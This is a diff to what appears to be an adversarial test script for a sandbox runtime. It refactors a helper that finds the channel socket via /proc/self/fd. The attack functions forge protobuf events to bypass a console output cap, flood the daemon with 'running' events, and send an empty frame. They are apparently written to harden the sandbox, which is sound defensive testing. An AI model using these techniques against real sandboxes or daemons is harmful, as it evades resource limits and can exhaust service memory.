@@ -1,19 +1,9 @@
 # Attack: write events the sandbox's runtime never sends straight to the channel — console
 # batches (which no output cap would count if the daemon trusted them), a flood of 'running'
 # events, an empty event — to get past the console cap or grow the daemon's memory.
-from escape import os, real_import
+from escape import channel_fd, os, real_import
 
 pb = real_import("isorun._proto.runner_pb2")
-
-
-def _channel_fd():
-    for name in os.listdir("/proc/self/fd"):
-        try:
-            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
-                return int(name)
-        except OSError:
-            pass
-    raise RuntimeError("no channel socket found")
 
 
 def _send(fd, event):
@@ -25,7 +15,7 @@ def _send(fd, event):
 
 def console_batches(rounds):
     """Batches of 4 x 64 KiB lines, far past the 1 MiB console cap in all."""
-    fd = _channel_fd()
+    fd = channel_fd()
     line = pb.ConsoleLine(stream=pb.ConsoleLine.STDOUT, text="b" * 65535 + "\n")
     batch = pb.RunEvent(console_batch=pb.ConsoleBatch(lines=[line] * 4))
     for _ in range(rounds):
@@ -34,13 +24,13 @@ def console_batches(rounds):
 
 
 def running_flood(count):
-    fd = _channel_fd()
+    fd = channel_fd()
     for _ in range(count):
         _send(fd, pb.RunEvent(running=pb.Running()))
     return "sent"
 
 
 def empty_event():
-    fd = _channel_fd()
+    fd = channel_fd()
     os.write(fd, (0).to_bytes(4, "big"))
     real_import("time").sleep(10)
